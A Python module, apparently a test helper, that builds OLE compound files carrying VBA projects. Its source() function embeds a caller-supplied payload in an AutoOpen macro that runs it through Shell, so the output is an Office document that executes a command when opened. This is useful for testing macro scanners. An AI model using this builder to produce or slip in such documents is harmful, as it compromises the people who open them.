"""Documents with macros: compound files with several streams, and VBA projects in them.

Sources: MS-CFB, MS-OVBA.
"""

import struct

END, FREE, FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
SECTOR = 512


class Node:
    """A storage (children) or a stream (data)."""

    def __init__(self, name, data=None, children=()):
        self.name, self.data, self.children = name, data, list(children)


def compound(nodes):
    """A compound file of version 3 without a mini stream: every stream fills 4,096 bytes at least."""
    entries = [Node("Root Entry", None, nodes)]
    place = 0
    while place < len(entries):
        entries[place].first = len(entries) if entries[place].children else FREE
        entries += entries[place].children
        place += 1
    sectors, starts = [], {}
    for entry in entries:
        if entry.data is not None:
            padded = entry.data.ljust(4096, b"\0")
            padded += bytes(-len(padded) % SECTOR)
            starts[id(entry)] = (len(sectors), len(entry.data.ljust(4096, b"\0")))
            sectors += [padded[at : at + SECTOR] for at in range(0, len(padded), SECTOR)]
    directory = directory_of(entries, starts)
    directory_sectors = len(directory) // SECTOR
    tables = 1
    while tables * 128 < tables + directory_sectors + len(sectors):
        tables += 1
    table = [FAT] * tables + list(range(tables + 1, tables + directory_sectors)) + [END]
    for start, size in sorted(starts.values()):
        count = -(-size // SECTOR)
        base = tables + directory_sectors + start
        table += list(range(base + 1, base + count)) + [END]
    table += [FREE] * (tables * 128 - len(table))
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(24, b"\0"))
    head += struct.pack("<HHHHHHIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 0, 0, tables, tables, 0, 4096,
                        END, 0, END, 0)
    head += struct.pack("<109I", *(list(range(tables)) + [FREE] * (109 - tables)))
    body = struct.pack(f"<{len(table)}I", *table) + directory
    return bytes(head) + body + b"".join(sectors)


def directory_of(entries, starts):
    """The entries; the siblings of a storage are a chain of right ones, in the order of their names."""
    sibling = {}
    for entry in entries:
        ordered = sorted(entry.children, key=lambda c: (len(c.name), c.name.upper()))
        for left, right in zip(ordered, ordered[1:]):
            sibling[id(left)] = entries.index(right)
        entry.first = entries.index(ordered[0]) if ordered else FREE
    count = -(-len(entries) // 4)
    data_sectors = sum(-(-size // SECTOR) for _, size in starts.values())
    tables = 1
    while tables * 128 < tables + count + data_sectors:
        tables += 1
    out = b""
    for place, entry in enumerate(entries):
        raw = entry.name.encode("utf-16le") + b"\0\0"
        start, size = starts.get(id(entry), (0, 0))
        is_stream = entry.data is not None
        out += raw.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ", len(raw), 2 if is_stream else 5 if place == 0 else 1, 1, FREE,
            sibling.get(id(entry), FREE), entry.first, bytes(16), 0, 0, 0,
            tables + count + start if is_stream else (END if place == 0 else 0), size)
    return out + bytes(-len(out) % SECTOR)


def compressed(source):
    """MS-OVBA's compression by literal bytes alone: a flag byte stands before each eight of them."""
    out = b"\x01"
    for at in range(0, len(source), 3640):
        chunk = source[at : at + 3640]
        tokens = b"".join(b"\0" + chunk[i : i + 8] for i in range(0, len(chunk), 8))
        out += struct.pack("<H", 0xB000 | len(tokens) + 2 - 3) + tokens
    return out


def record(kind, data):
    return struct.pack("<HI", kind, len(data)) + data


def project(modules):
    """The storage of a project: its directory, and a stream for each module."""
    text = record(1, struct.pack("<I", 1)) + record(2, struct.pack("<I", 0x409))
    text += record(0x14, struct.pack("<I", 0x409)) + record(3, struct.pack("<H", 1252))
    text += record(4, b"Project") + record(5, b"") + record(0x40, b"")
    text += record(6, b"") + record(0x3D, b"") + record(7, struct.pack("<I", 0))
    text += record(8, struct.pack("<I", 0)) + struct.pack("<HIIH", 9, 4, 1, 0)
    text += record(0x0C, b"") + record(0x3C, b"")
    text += record(0x0F, struct.pack("<H", len(modules))) + record(0x13, struct.pack("<H", 0xFFFF))
    streams = []
    for name, source in modules:
        wide = name.encode("utf-16le")
        text += record(0x19, name.encode()) + record(0x47, wide) + record(0x1A, name.encode())
        text += record(0x32, wide) + record(0x1C, b"") + record(0x48, b"")
        text += record(0x31, struct.pack("<I", 0)) + record(0x1E, struct.pack("<I", 0))
        text += record(0x2C, struct.pack("<H", 0xFFFF)) + record(0x21, b"") + record(0x2B, b"")
        streams.append(Node(name, compressed(source)))
    text += record(0x10, b"")
    return Node("VBA", None, [
        Node("dir", compressed(text)),
        Node("_VBA_PROJECT", b"\xcc\x61\xff\xff\0\0\0"), *streams])


def source(payload):
    """A module that has a payload as text."""
    return (b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  x = "' + payload
            + b'"\r\n  Shell x\r\nEnd Sub\r\n')


def macros(payload, parent="Macros"):
    """A compound file with a project."""
    storage = Node(parent, None, [project([("Module1", source(payload))]), Node("PROJECT", b"ID={0}\r\n")])
    return compound([Node("WordDocument", b"\xec\xa5\xc1\0".ljust(4096, b"\0")), storage])


def macro_part(payload):
    """What a package has as vbaProject.bin."""
    return compound([project([("Module1", source(payload))]), Node("PROJECT", b"ID={0}\r\n")])
